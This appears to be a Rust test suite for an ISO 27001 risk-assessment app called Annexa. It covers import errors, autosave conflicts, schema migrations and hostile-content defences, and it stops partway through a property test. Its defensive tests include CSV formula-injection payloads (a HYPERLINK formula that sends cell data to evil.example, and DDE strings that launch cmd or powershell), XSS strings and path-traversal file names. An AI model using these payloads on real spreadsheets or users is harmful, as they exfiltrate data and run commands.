//! Reliability and security, natively: every import failure class (kind,
//! path, line and column, and a store left unchanged), schema fixtures and
//! migrations, start-up reading of stored text, the two-tab save counter,
//! formula injection in CSV and XLSX, file names, no raw HTML anywhere,
//! property tests over valid assessments, and a bounded stable-Rust fuzz
//! loop over the same entry points as `fuzz/`.
#![cfg(not(target_arch = "wasm32"))]

use std::rc::Rc;

use annexa::domain::catalogue::{AssetType, ThreatId, VulnerabilityId, CONTROLS, THREATS};
use annexa::domain::*;
use annexa::store::{read_stored, Action, Persistence, State, Stored};
use serde_json::{json, Value};
use yew::Reducible;

mod support {
    pub mod exports;
}
use support::exports::{check_exports, dangerous, parse_csv};

const NOW: Timestamp = Timestamp(1_795_430_100);

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn example_text() -> String {
    export(&example(), NOW)
}

fn example_value() -> Value {
    serde_json::from_str(&example_text()).expect("the example is JSON")
}

fn pretty(v: &Value) -> Vec<u8> {
    serde_json::to_vec_pretty(v).expect("JSON")
}

/// The text at a 1-based line and column.
fn text_at(text: &str, (line, column): (usize, usize)) -> String {
    text.lines()
        .nth(line - 1)
        .map(|l| l.chars().skip(column - 1).collect())
        .unwrap_or_default()
}

// ---------------------------------------------------------------- import failure classes

/// A failure class: a name, the bytes, the kind, the path (if the error has
/// one) and a text the message must contain.
struct Case {
    what: &'static str,
    bytes: Vec<u8>,
    kind: ErrorKind,
    path: Option<&'static str>,
    text: &'static str,
}

fn mutated(mutate: impl FnOnce(&mut Value)) -> Vec<u8> {
    let mut v = example_value();
    mutate(&mut v);
    pretty(&v)
}

fn failure_cases() -> Vec<Case> {
    let case = |what, bytes, kind, path, text| Case {
        what,
        bytes,
        kind,
        path,
        text,
    };
    let mut long_list = String::from("{\"format\": \"annexa\", \"schema_version\": 1, \"app_version\": \"x\", \"exported_at\": \"2026-01-01T00:00:00Z\", \"assessment\": {\"context\": {\"sites\": [");
    for i in 0..=MAX_ITEMS {
        if i > 0 {
            long_list.push(',');
        }
        long_list.push_str("\"\"");
    }
    long_list.push_str("]}}}");
    vec![
        case(
            "not JSON",
            b"hello".to_vec(),
            ErrorKind::NotJson,
            None,
            "not valid JSON",
        ),
        case("empty", b" \n ".to_vec(), ErrorKind::NotJson, None, "empty"),
        case(
            "truncated",
            example_text().as_bytes()[..700].to_vec(),
            ErrorKind::Truncated,
            None,
            "ends too early",
        ),
        case(
            "trailing garbage",
            format!("{}}}", example_text()).into_bytes(),
            ErrorKind::NotJson,
            None,
            "trailing characters",
        ),
        case(
            "not an object",
            b"[1, 2]".to_vec(),
            ErrorKind::WrongFormat,
            None,
            "not an Annexa file",
        ),
        case(
            "no format",
            br#"{"schema_version": 1}"#.to_vec(),
            ErrorKind::WrongFormat,
            None,
            "no \"format\"",
        ),
        case(
            "wrong format",
            mutated(|v| v["format"] = json!("ciso-assistant")),
            ErrorKind::WrongFormat,
            Some("format"),
            "not made by Annexa",
        ),
        case(
            "newer schema_version",
            mutated(|v| v["schema_version"] = json!(SCHEMA_VERSION + 1)),
            ErrorKind::NewerSchema,
            Some("schema_version"),
            "made by a newer Annexa",
        ),
        case(
            "schema_version 0",
            mutated(|v| v["schema_version"] = json!(0)),
            ErrorKind::WrongFormat,
            Some("schema_version"),
            "does not exist",
        ),
        case(
            "schema_version not a number",
            mutated(|v| v["schema_version"] = json!("1")),
            ErrorKind::WrongType,
            Some("schema_version"),
            "whole number",
        ),
        case(
            "wrong type",
            mutated(|v| v["assessment"]["risks"][2]["likelihood"] = json!("high")),
            ErrorKind::WrongType,
            Some("assessment.risks[2].likelihood"),
            "expected u8",
        ),
        case(
            "list where text belongs",
            mutated(|v| v["assessment"]["context"]["organisation"] = json!(["a"])),
            ErrorKind::WrongType,
            Some("assessment.context.organisation"),
            "expected a string",
        ),
        case(
            "bad id",
            mutated(|v| v["assessment"]["assets"][0]["id"] = json!("asset one")),
            ErrorKind::WrongType,
            Some("assessment.assets[0].id"),
            "asset id",
        ),
        case(
            "bad date",
            mutated(|v| v["exported_at"] = json!("yesterday")),
            ErrorKind::WrongType,
            Some("exported_at"),
            "yesterday",
        ),
        case(
            "typo in a field name",
            mutated(|v| {
                let asset = v["assessment"]["assets"][1].as_object_mut().expect("asset");
                let owner = asset.remove("owner").expect("owner");
                asset.insert("ownr".into(), owner);
            }),
            ErrorKind::UnknownField,
            Some("assessment.assets[1].ownr"),
            "unknown field `ownr`",
        ),
        case(
            "out-of-range likelihood",
            mutated(|v| v["assessment"]["risks"][1]["likelihood"] = json!(9)),
            ErrorKind::OutOfRange,
            Some("assessment.risks[1].likelihood"),
            "1 to 5",
        ),
        case(
            "out-of-range rating",
            mutated(|v| v["assessment"]["assets"][3]["ratings"]["integrity"] = json!(0)),
            ErrorKind::OutOfRange,
            Some("assessment.assets[3].ratings.integrity"),
            "impact 0",
        ),
        case(
            "level beyond a smaller scale",
            mutated(|v| {
                let m = serde_json::to_value(Method::with_size(3, 3)).expect("method");
                v["assessment"]["method"] = m;
                for a in v["assessment"]["assets"].as_array_mut().expect("assets") {
                    a["ratings"] = json!({"confidentiality": 1, "integrity": 1, "availability": 1});
                }
                for r in v["assessment"]["risks"].as_array_mut().expect("risks") {
                    r["likelihood"] = json!(1);
                    r["current"] = Value::Null;
                    r["treatment"]["target"] = Value::Null;
                    r["impact_override"] = Value::Null;
                    if r["identification"]["kind"] == "event_based" {
                        r["identification"]["impact"] = json!(1);
                    }
                }
                v["assessment"]["risks"][4]["likelihood"] = json!(4);
            }),
            ErrorKind::OutOfRange,
            Some("assessment.risks[4].likelihood"),
            "1 to 3",
        ),
        case(
            "duplicate asset id",
            mutated(|v| v["assessment"]["assets"][1]["id"] = json!("A-01")),
            ErrorKind::DuplicateId,
            Some("assessment.assets[1].id"),
            "duplicate asset id \"A-01\"",
        ),
        case(
            "duplicate risk id",
            mutated(|v| v["assessment"]["risks"][5]["id"] = json!("R-01")),
            ErrorKind::DuplicateId,
            Some("assessment.risks[5].id"),
            "duplicate risk id \"R-01\"",
        ),
        case(
            "dangling asset",
            mutated(|v| {
                v["assessment"]["risks"][3]["identification"] =
                    json!({"kind": "asset_based", "assets": ["A-17"]})
            }),
            ErrorKind::DanglingReference,
            Some("assessment.risks[3].identification.assets[0]"),
            "unknown asset id \"A-17\"",
        ),
        case(
            "dangling threat",
            mutated(|v| v["assessment"]["risks"][0]["threat"] = json!("T999")),
            ErrorKind::DanglingReference,
            Some("assessment.risks[0].threat"),
            "unknown threat id \"T999\"",
        ),
        case(
            "dangling vulnerability",
            mutated(|v| v["assessment"]["risks"][0]["vulnerabilities"] = json!(["V01", "V999"])),
            ErrorKind::DanglingReference,
            Some("assessment.risks[0].vulnerabilities[1]"),
            "unknown vulnerability id \"V999\"",
        ),
        case(
            "unknown control",
            mutated(|v| v["assessment"]["risks"][0]["existing_controls"] = json!(["5.99"])),
            ErrorKind::DanglingReference,
            Some("assessment.risks[0].existing_controls[0]"),
            "unknown control \"5.99\"",
        ),
        case(
            "text over the limit",
            mutated(|v| {
                v["assessment"]["assets"][0]["description"] = json!("x".repeat(MAX_TEXT + 1))
            }),
            ErrorKind::TooLong,
            Some("assessment.assets[0].description"),
            "limit is 20000",
        ),
        case(
            "escaped text over the limit",
            mutated(|v| v["assessment"]["risks"][0]["title"] = json!("\n".repeat(MAX_TEXT + 1))),
            ErrorKind::TooLong,
            Some("assessment.risks[0].title"),
            "limit is 20000",
        ),
        case(
            "too many items",
            long_list.into_bytes(),
            ErrorKind::TooMany,
            Some("assessment.context.sites"),
            "more than 100000 items",
        ),
        case(
            "deep nesting",
            format!("{}{}", "[".repeat(100), "]".repeat(100)).into_bytes(),
            ErrorKind::TooDeep,
            Some(Box::leak("[0]".repeat(32).into_boxed_str())),
            "nests deeper",
        ),
        case(
            "deep nesting inside a file",
            mutated(|v| {
                let mut deep = json!(1);
                for _ in 0..40 {
                    deep = json!([deep]);
                }
                v["assessment"]["context"]["sites"] = deep;
            }),
            ErrorKind::TooDeep,
            Some(Box::leak(
                format!("assessment.context.sites{}", "[0]".repeat(29)).into_boxed_str(),
            )),
            "nests deeper than 32",
        ),
        case(
            "invalid UTF-8",
            b"{\n  \"format\": \"annexa\xff\"}".to_vec(),
            ErrorKind::InvalidUtf8,
            None,
            "not UTF-8",
        ),
        case(
            "too large",
            vec![b' '; MAX_IMPORT_BYTES + 1],
            ErrorKind::TooLarge,
            None,
            "up to 20 MB",
        ),
        case(
            "bad matrix",
            mutated(|v| v["assessment"]["method"]["matrix"]["grid"][0] = json!([0, 0])),
            ErrorKind::Invalid,
            Some("assessment.method.matrix.grid[0]"),
            "impact scale has 5 steps",
        ),
    ]
}

#[test]
fn every_import_failure_names_its_kind_path_and_position() {
    for c in failure_cases() {
        let e = import(&c.bytes).expect_err(c.what);
        let shown = e.to_string();
        assert_eq!(e.kind, c.kind, "{}: {shown}", c.what);
        assert_eq!(e.path.as_deref(), c.path, "{}: {shown}", c.what);
        assert!(shown.contains(c.text), "{}: {shown}", c.what);
        if let Some(path) = c.path {
            assert!(
                shown.starts_with(&format!("{path}: ")),
                "{}: {shown}",
                c.what
            );
        }
        // Every error but "too large" (never read) and "empty" carries a position.
        if !matches!(c.what, "too large" | "empty") {
            let (line, column) = e
                .position
                .unwrap_or_else(|| panic!("{}: no position: {shown}", c.what));
            assert!(line >= 1 && column >= 1, "{}", c.what);
            assert!(
                shown.contains(&format!("(line {line}, column {column})")),
                "{}: {shown}",
                c.what
            );
        }
    }
}

#[test]
fn positions_point_at_the_value_at_fault() {
    // (what, mutation, the text that must start at the reported position)
    type Mutation = fn(&mut Value);
    let cases: &[(&str, Mutation, &str)] = &[
        (
            "dangling asset",
            |v| {
                v["assessment"]["risks"][3]["identification"] =
                    json!({"kind": "asset_based", "assets": ["A-01", "A-17"]})
            },
            "\"A-17\"",
        ),
        (
            "out of range",
            |v| v["assessment"]["risks"][1]["likelihood"] = json!(9),
            "9",
        ),
        (
            "duplicate id",
            |v| v["assessment"]["assets"][1]["id"] = json!("A-01"),
            "\"A-01\"",
        ),
        (
            "wrong type",
            |v| v["assessment"]["risks"][2]["likelihood"] = json!("high"),
            "\"high\"",
        ),
        ("newer schema", |v| v["schema_version"] = json!(99), "99"),
        (
            "soa entry",
            |v| {
                v["assessment"]["soa"]["entries"]["5.1"] =
                    json!({"owner": "x".repeat(MAX_TEXT + 1)})
            },
            "\"xxxx",
        ),
        (
            "unknown control key",
            |v| v["assessment"]["soa"]["entries"]["9.9"] = json!({}),
            "{}",
        ),
    ];
    for (what, mutate, expected) in cases {
        let mut v = example_value();
        mutate(&mut v);
        let bytes = pretty(&v);
        let text = String::from_utf8(bytes.clone()).expect("UTF-8");
        let e = import(&bytes).expect_err(what);
        let at = e
            .position
            .unwrap_or_else(|| panic!("{what}: no position: {e}"));
        let found = text_at(&text, at);
        assert!(
            found.starts_with(expected),
            "{what}: {e}: the text there is {found:?}"
        );
    }
    // The line and column of a bad byte.
    let e = import(b"{\n  \"a\": \"b\xff\"}").expect_err("bad byte");
    assert_eq!(e.position, Some((2, 10)), "{e}");
}

#[test]
fn a_bom_is_accepted_and_unknown_fields_are_not() {
    let mut bytes = b"\xEF\xBB\xBF".to_vec();
    bytes.extend_from_slice(example_text().as_bytes());
    assert_eq!(import(&bytes).expect("BOM").assessment, example());
    let mut v = example_value();
    v["assessment"]["risks"][0]["treatment"]["targett"] = json!(null);
    let e = import(&pretty(&v)).expect_err("typo");
    assert_eq!(e.kind, ErrorKind::UnknownField, "{e}");
    assert!(e.to_string().contains("check the spelling"), "{e}");
    let mut v = example_value();
    v["extra"] = json!(1);
    assert_eq!(
        import(&pretty(&v)).expect_err("envelope").kind,
        ErrorKind::UnknownField
    );
}

// ---------------------------------------------------------------- the store

fn same(a: &State, b: &State) -> bool {
    Rc::ptr_eq(&a.assessment, &b.assessment)
        && export(&a.assessment, NOW) == export(&b.assessment, NOW)
        && a.revision == b.revision
        && a.persistence == b.persistence
        && a.stored_revision == b.stored_revision
        && a.notice == b.notice
}

#[test]
fn a_failed_import_leaves_the_store_unchanged() {
    let before = Rc::new(State::with(example())).reduce(Action::SetOrganisation("Kept Ltd".into()));
    let bytes_before = export(&before.assessment, NOW);
    for c in failure_cases() {
        let after = before.clone().reduce(Action::Import {
            name: "bad.json".into(),
            bytes: c.bytes.into(),
        });
        assert!(same(&before, &after), "{}: the state changed", c.what);
        assert_eq!(export(&after.assessment, NOW), bytes_before, "{}", c.what);
        let message = after.import_error.clone().unwrap_or_default();
        assert!(
            message.starts_with("bad.json was not imported, and your data is unchanged."),
            "{}: {message}",
            c.what
        );
        if let Some(path) = c.path {
            assert!(message.contains(path), "{}: {message}", c.what);
        }
        let dismissed = after.reduce(Action::DismissImportError);
        assert_eq!(dismissed.import_error, None);
    }
}

#[test]
fn a_good_import_replaces_everything_in_one_step() {
    let before = Rc::new(State::default());
    let after = before.clone().reduce(Action::Import {
        name: "example.json".into(),
        bytes: fixture("v1-example.json").into(),
    });
    assert_eq!(after.revision, before.revision + 1, "one change");
    assert_eq!(*after.assessment, example());
    assert_eq!(after.notice.as_deref(), Some("Imported example.json."));
    assert_eq!(after.import_error, None);
}

#[test]
fn another_tabs_save_stops_autosave_until_the_user_chooses() {
    let s = Rc::new(State::with(example()));
    let s = s.reduce(Action::SetOrganisation("Mine".into()));
    let s = s.reduce(Action::Saved(1, 1));
    assert_eq!(
        (s.stored_revision, s.persistence.clone()),
        (1, Persistence::Saved)
    );
    let s = s.reduce(Action::ExternalChange);
    assert!(s.conflict, "another tab saved");
    let edited = s
        .clone()
        .reduce(Action::SetOrganisation("Still mine".into()));
    assert!(edited.conflict, "editing does not clear the conflict");
    let rev = edited.revision;
    let kept = edited.reduce(Action::KeepMine(7));
    assert!(!kept.conflict);
    assert_eq!(
        kept.stored_revision, 7,
        "the next save follows the other tab's counter"
    );
    assert_eq!(
        kept.revision,
        rev + 1,
        "a new revision makes the autosave write"
    );
    assert_eq!(kept.assessment.context.organisation, "Still mine");
    // A save of an older revision does not claim the newest is saved.
    let s = Rc::new(State::default()).reduce(Action::SetOrganisation("a".into()));
    let s = s.reduce(Action::SaveFailed("full".into()));
    let s = s.reduce(Action::SetOrganisation("ab".into()));
    let s = s.reduce(Action::Saved(1, 1));
    assert!(matches!(s.persistence, Persistence::SaveFailed(_)));
    let s = s.reduce(Action::Saved(2, 2));
    assert_eq!(s.persistence, Persistence::Saved);
}

// ---------------------------------------------------------------- fixtures and migrations

#[test]
fn every_released_schema_fixture_loads() {
    let dir = format!("{}/tests/fixtures", env!("CARGO_MANIFEST_DIR"));
    let mut seen = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("fixtures") {
        let path = entry.expect("entry").path();
        let name = path
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or("")
            .to_owned();
        if !name.ends_with(".json") {
            continue;
        }
        let version: u32 = name
            .strip_prefix('v')
            .and_then(|r| r.split('-').next())
            .and_then(|n| n.parse().ok())
            .unwrap_or_else(|| panic!("{name}: fixtures are named v<schema>-<what>.json"));
        let bytes = std::fs::read(&path).expect("read");
        let (env, from) = import_versioned(&bytes).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(from, version, "{name}");
        assert_eq!(env.schema_version, SCHEMA_VERSION, "{name} is migrated");
        // A loaded fixture exports and loads again unchanged.
        assert_eq!(
            import(export(&env.assessment, NOW).as_bytes()).map(|e| e.assessment),
            Ok(env.assessment),
            "{name}"
        );
        seen.push(version);
    }
    for v in 1..=SCHEMA_VERSION {
        assert!(
            seen.contains(&v),
            "no fixture of schema version {v} in tests/fixtures"
        );
    }
    assert_eq!(
        import(&fixture("v1-example.json")).expect("v1").assessment,
        example()
    );
    assert_eq!(
        import(&fixture("v1-minimal.json")).expect("v1").assessment,
        Assessment::default()
    );
}

#[test]
fn migration_refuses_impossible_versions() {
    let mut payload = json!({});
    assert_eq!(
        migrate(&mut payload, 0).expect_err("0").kind,
        ErrorKind::WrongFormat
    );
    let e = migrate(&mut payload, SCHEMA_VERSION + 1).expect_err("newer");
    assert_eq!(e.kind, ErrorKind::NewerSchema);
    assert!(e.to_string().contains("update Annexa"), "{e}");
    assert!(migrate(&mut payload, SCHEMA_VERSION).is_ok());
}

#[test]
fn start_up_reads_stored_text_through_the_import_path() {
    assert_eq!(read_stored(None), Stored::Nothing);
    let text = String::from_utf8(fixture("v1-example.json")).expect("UTF-8");
    match read_stored(Some(&text)) {
        Stored::Readable {
            assessment,
            migrated_from,
        } => {
            assert_eq!(*assessment, example());
            assert_eq!(
                migrated_from, None,
                "schema {SCHEMA_VERSION} needs no migration"
            );
        }
        other => panic!("{other:?}"),
    }
    for bad in [
        "{\"format\": \"annexa\"",
        "garbage",
        "{\"format\": \"annexa\", \"schema_version\": 99}",
    ] {
        match read_stored(Some(bad)) {
            Stored::Unreadable { reason } => assert!(reason.contains("line"), "{reason}"),
            other => panic!("{bad}: {other:?}"),
        }
    }
}

// ---------------------------------------------------------------- hostile content

/// The payloads that spreadsheets read as formulas, and harmless look-alikes.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "=cmd|'/c powershell'!A1",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
];

fn hostile_assessment(payloads: &[&str]) -> Assessment {
    let mut a = example();
    let mut p = payloads.iter().cycle().map(|s| s.to_string());
    let mut next = || p.next().unwrap_or_default();
    a.context.organisation = next();
    a.context.scope = next();
    for x in &mut a.assets {
        x.name = next();
        x.owner = next();
        x.description = next();
    }
    for r in &mut a.risks {
        r.title = next();
        r.owner = next();
        r.description = next();
        r.treatment.owner = next();
        if let Some(acc) = &mut r.treatment.acceptance {
            acc.by = next();
            acc.reason = next();
        }
    }
    for c in CONTROLS.iter().take(20) {
        let e = a.soa.entries.entry(c.id).or_default();
        e.owner = next();
        e.evidence = vec![next(), next()];
        e.justification = Some(next());
        e.exclusion_justification = next();
    }
    a
}

#[test]
fn every_csv_and_xlsx_cell_is_neutralised() {
    let a = hostile_assessment(FORMULAS);
    assert!(problems(&a, "").is_empty(), "{:?}", problems(&a, ""));
    let csvs = [
        ("risk register", report::risk_register_csv(&a)),
        ("soa", report::soa_csv(&generate_soa(&a))),
        ("score", report::score_csv(&a)),
    ];
    let mut all = Vec::new();
    for (what, csv) in csvs {
        let rows = parse_csv(&csv);
        assert!(rows.len() > 1, "{what}");
        let width = rows[0].len();
        for (n, row) in rows.iter().enumerate() {
            assert_eq!(row.len(), width, "{what} row {n}: {row:?}");
            for cell in row {
                assert!(!dangerous(cell), "{what} row {n}: {cell:?}");
            }
        }
        all.extend(rows.into_iter().flatten());
    }
    for f in FORMULAS.iter().filter(|f| dangerous(f)) {
        assert!(
            all.iter().any(|c| c.contains(&format!("'{f}"))),
            "{f:?} is kept, with a quote in front"
        );
    }
    let sheets = workbook_sheets(&a);
    assert_eq!(
        sheets.iter().map(|s| s.name).collect::<Vec<_>>(),
        ["SoA", "Risk register", "Treatment plan"]
    );
    for s in &sheets {
        for row in &s.cells {
            for cell in row {
                assert!(!dangerous(cell), "{}: {cell:?}", s.name);
            }
        }
    }
    assert!(workbook(&a).is_ok_and(|b| b.starts_with(b"PK")));
}

#[test]
fn neutralise_follows_owasp() {
    let cases: &[(&str, &str)] = &[
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=already", "'=already"),
        (" =1", "' =1"),
        ("a=1", "a=1"),
        ("", ""),
        ("R-01", "R-01"),
        ("ÿ=", "ÿ="),
    ];
    for (cell, expected) in cases {
        assert_eq!(report::neutralise(cell), *expected, "{cell:?}");
    }
}

#[test]
fn download_file_names_are_safe() {
    let cases: &[(&str, &str)] = &[
        ("annexa-acme-2026-11-23.json", "annexa-acme-2026-11-23.json"),
        ("../../etc/passwd", "etc-passwd"),
        ("..\\..\\Windows\\win.ini", "Windows-win.ini"),
        ("report.csv", "report.csv"),
        ("<script>alert(1)</script>.csv", "script-alert-1-script.csv"),
        ("a   b\n\tc.json", "a-b-c.json"),
        ("  .hidden", "annexa-export.hidden"),
        ("trailing dots...", "trailing-dots"),
        ("CON.json", "annexa-CON.json"),
        ("nul", "annexa-nul"),
        ("lpt1.tar.gz", "annexa-lpt1.tar.gz"),
        ("Ünïcödé 名前.xlsx", "n-c-d.xlsx"),
        ("", "annexa-export"),
        ("../", "annexa-export"),
        ("名前.json", "annexa-export.json"),
        ("a\u{0}b.json", "a-b.json"),
    ];
    for (input, expected) in cases {
        assert_eq!(sanitise_filename(input), *expected, "{input:?}");
    }
    let long = format!("{}.json", "x".repeat(300));
    let name = sanitise_filename(&long);
    assert_eq!(name.len(), MAX_FILENAME);
    assert!(
        name.ends_with(".json"),
        "the extension survives truncation: {name}"
    );
    let org = hostile_assessment(&["<img src=x onerror=alert(1)>/../CON"]);
    let stem = file_stem(&org, Date::new(2026, 11, 23).expect("date"));
    let safe = sanitise_filename(&format!("{stem}.json"));
    assert_eq!(safe, "annexa-img-srcx-onerroralert1con-2026-11-23.json");
}

/// No source file renders user text as HTML or runs text as code.
#[test]
fn no_raw_html_or_eval_in_the_source() {
    const FORBIDDEN: &[&str] = &[
        "from_html_unchecked",
        "set_inner_html",
        "inner_html",
        "outer_html",
        "insert_adjacent_html",
        "innerHTML",
        "document.write",
        "js_sys::eval",
        "js_sys::Function::new",
        "VRaw",
    ];
    let mut stack = vec![std::path::PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/src"
    ))];
    let mut files = 0;
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("src") {
            let path = entry.expect("entry").path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|e| e == "rs") {
                files += 1;
                let text = std::fs::read_to_string(&path).expect("read");
                for f in FORBIDDEN {
                    assert!(!text.contains(f), "{} uses {f}", path.display());
                }
            }
        }
    }
    assert!(files > 20);
}

// ---------------------------------------------------------------- properties

mod properties {
    use super::*;
    use proptest::collection::{btree_map, vec};
    use proptest::option;
    use proptest::prelude::*;

    /// Text as people type it, and as attackers do.
    fn text() -> impl Strategy<Value = String> {
        prop_oneof![
            4 => "\\PC{0,24}",
            1 => "[=+\\-@\t\r][a-zA-Z0-9(),!|' ]{0,12}",
            1 => prop::sample::select(vec![
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "{{constructor.constructor('alert(1)')()}}",
                "line one\r\nline \"two\"",
                "\u{202e}txt.exe",
                "😀 \u{0} \u{ffff}",
            ]).prop_map(str::to_owned),
        ]
    }

    fn name() -> impl Strategy<Value = String> {
        text().prop_map(|s| {
            if s.trim().is_empty() {
                "Unnamed".to_owned()
            } else {
                s
            }
        })
    }

    fn rating(nl: u8, ni: u8) -> impl Strategy<Value = Rating> {
        (1..=nl, 1..=ni).prop_map(|(l, i)| Rating {
            likelihood: Likelihood(l),
            impact: Impact(i),
        })
    }

    fn control() -> impl Strategy<Value = catalogue::ControlId> {
        (0..CONTROLS.len()).prop_map(|n| CONTROLS[n].id)
    }

    fn asset(ni: u8) -> impl Strategy<Value = Asset> {
        (
            name(),
            0..AssetType::ALL.len(),
            text(),
            text(),
            text(),
            1..=ni,
            1..=ni,
            1..=ni,
        )
            .prop_map(|(name, t, owner, location, description, c, i, a)| Asset {
                id: AssetId(0),
                name,
                asset_type: AssetType::ALL[t],
                owner,
                location,
                description,
                ratings: Cia {
                    confidentiality: Impact(c),
                    integrity: Impact(i),
                    availability: Impact(a),
                },
            })
    }

    fn acceptance() -> impl Strategy<Value = Acceptance> {
        (name(), 0i64..20_000, 0i64..2_000, text()).prop_map(|(by, on, days, reason)| Acceptance {
            by,
            on: Date::from_unix(on * 86_400),
            until: Date::from_unix((on + days) * 86_400),
            reason,
        })
    }

    fn treatment(nl: u8, ni: u8) -> impl Strategy<Value = Treatment> {
        (
            option::of(0..TreatmentOption::ALL.len()),
            vec(control(), 0..4),
            text(),
            option::of(0i64..20_000),
            option::of(rating(nl, ni)),
            option::of(acceptance()),
        )
            .prop_map(
                |(option, planned_controls, owner, due, target, acceptance)| Treatment {
                    option: option.map(|n| TreatmentOption::ALL[n]),
                    planned_controls,
                    owner,
                    due: due.map(|d| Date::from_unix(d * 86_400)),
                    target,
                    acceptance,
                },
            )
    }

    fn risk(nl: u8, ni: u8, assets: usize) -> impl Strategy<Value = Risk> {
        let identification = prop_oneof![
            vec(0..assets.max(1), 0..4).prop_map(move |ids| Identification::AssetBased {
                assets: if assets == 0 {
                    vec![]
                } else {
                    let mut v: Vec<AssetId> =
                        ids.into_iter().map(|n| AssetId(n as u32 + 1)).collect();
                    v.dedup();
                    v
                },
            }),
            (1..=ni).prop_map(|i| Identification::EventBased { impact: Impact(i) }),
        ];
        (
            (name(), text(), identification, option::of(0..THREATS.len())),
            (vec(1u16..=70, 0..3), text(), 1..=nl),
            (
                option::of((1..=ni, name())),
                vec(control(), 0..4),
                option::of(rating(nl, ni)),
                treatment(nl, ni),
            ),
        )
            .prop_map(
                |(
                    (title, description, identification, threat),
                    (vulns, owner, likelihood),
                    (impact_override, existing_controls, current, treatment),
                )| Risk {
                    id: RiskId(0),
                    title,
                    description,
                    identification,
                    threat: threat.map(|t| ThreatId(t as u16 + 1)),
                    vulnerabilities: vulns.into_iter().map(VulnerabilityId).collect(),
                    owner,
                    likelihood: Likelihood(likelihood),
                    impact_override: impact_override.map(|(i, reason)| ImpactOverride {
                        impact: Impact(i),
                        reason,
                    }),
                    existing_controls,
                    current,
                    treatment,
                    quant: None,
                },
            )
    }

    fn soa_entry() -> impl Strategy<Value = SoaEntry> {
        (
            option::of(any::<bool>()),
            vec(0..InclusionReason::ALL.len(), 0..3),
            option::of(text()),
            text(),
            option::of(0..ImplementationStatus::ALL.len()),
            text(),
            vec(text(), 0..3),
        )
            .prop_map(
                |(applicable, reasons, justification, exclusion, status, owner, evidence)| {
                    SoaEntry {
                        applicable,
                        reasons: reasons
                            .into_iter()
                            .map(|n| InclusionReason::ALL[n])
                            .collect(),
                        justification,
                        exclusion_justification: exclusion,
                        status: status.map(|n| ImplementationStatus::ALL[n]),
                        owner,
                        evidence,
                    }
                },
            )
    }

    /// Any valid assessment: method sizes 3–6, assets and risks on those
    /// scales, references that resolve, SoA entries, gap answers, and text
    /// that includes markup, formulas and odd Unicode.
    pub fn valid_assessment() -> impl Strategy<Value = Assessment> {
        (3u8..=6, 3u8..=6, 0usize..6)
            .prop_flat_map(|(nl, ni, n_assets)| {
                (
                    Just((nl, ni)),
                    vec(asset(ni), n_assets),
                    vec(risk(nl, ni, n_assets), 0..6),
                    (
                        name(),
                        text(),
                        vec(text(), 0..3),
                        vec((name(), text()), 0..3),
                    ),
                    btree_map(control(), soa_entry(), 0..6),
                    (
                        btree_map(
                            0..gap_questions(GapMode::Thorough).len(),
                            0..Answer::ALL.len(),
                            0..8,
                        ),
                        0..GapMode::ALL.len(),
                        option::of(0..SizeBand::ALL.len()),
                    ),
                    (text(), option::of(0i64..20_000), text()),
                )
            })
            .prop_map(
                |(
                    (nl, ni),
                    assets,
                    risks,
                    (org, scope, sites, parties),
                    entries,
                    (answers, mode, size),
                    (version, date, approver),
                )| {
                    let mut a = Assessment {
                        method: Method::with_size(nl.into(), ni.into()),
                        ..Default::default()
                    };
                    a.context.organisation = org;
                    a.context.scope = scope;
                    a.context.sites = sites;
                    a.context.interested_parties = parties
                        .into_iter()
                        .map(|(name, requirements)| InterestedParty { name, requirements })
                        .collect();
                    for (n, mut x) in assets.into_iter().enumerate() {
                        x.id = AssetId(n as u32 + 1);
                        a.assets.push(x);
                    }
                    for (n, mut r) in risks.into_iter().enumerate() {
                        r.id = RiskId(n as u32 + 1);
                        a.risks.push(r);
                    }
                    a.soa.entries = entries;
                    a.soa.document = SoaDocument {
                        version,
                        date: date.map(|d| Date::from_unix(d * 86_400)),
                        approver,
                    };
                    let questions = gap_questions(GapMode::Thorough);
                    a.gap_check.answers = answers
                        .into_iter()
                        .map(|(q, ans)| (questions[q].id.clone(), Answer::ALL[ans]))
                        .collect();
                    a.gap_check.mode = GapMode::ALL[mode];
                    a.gap_check.size = size.map(|n| SizeBand::ALL[n]);
                    a
                },
            )
    }

    /// Replaces the node at a random place of `v` with `new`.
    fn replace_somewhere(v: &mut Value, mut pick: usize, new: Value) {
        let mut node = v;
        loop {
            let children = match node {
                Value::Array(a) if !a.is_empty() => a.len(),
                Value::Object(o) if !o.is_empty() => o.len(),
                _ => 0,
            };
            if children == 0 || pick % 4 == 0 {
                *node = new;
                return;
            }
            let i = (pick / 4) % children;
            pick /= 3;
            node = match node {
                Value::Array(a) => &mut a[i],
                Value::Object(o) => match o.values_mut().nth(i) {
                    Some(child) => child,
                    None => return,
                },
                _ => return,
            };
        }
    }

    fn leaf() -> impl Strategy<Value = Value> {
        prop_oneof![
            Just(Value::Null),
            any::<bool>().prop_map(Value::Bool),
            any::<i64>().prop_map(Value::from),
            any::<f64>().prop_map(|f| json!(f)),
            text().prop_map(Value::String),
            Just(json!([])),
            Just(json!({})),
            Just(json!("A-99")),
            Just(json!("5.99")),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 192, ..ProptestConfig::default() })]

        #[test]
        fn valid_assessments_export_and_import_unchanged(a in valid_assessment()) {
            prop_assert_eq!(problems(&a, ""), vec![]);
            let text = export(&a, NOW);
